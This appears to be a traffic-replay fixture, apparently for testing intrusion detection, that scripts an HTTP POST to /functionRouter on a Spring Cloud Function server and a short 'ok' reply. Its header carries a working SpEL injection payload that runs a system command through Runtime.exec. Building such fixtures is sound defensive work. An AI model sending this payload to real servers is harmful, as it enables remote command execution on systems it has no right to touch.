# Spring Cloud Function, routing expression header.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /functionRouter HTTP/1.1\r\n
Host: shop.example\r\n
spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 1\r\n
\r\n
x

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
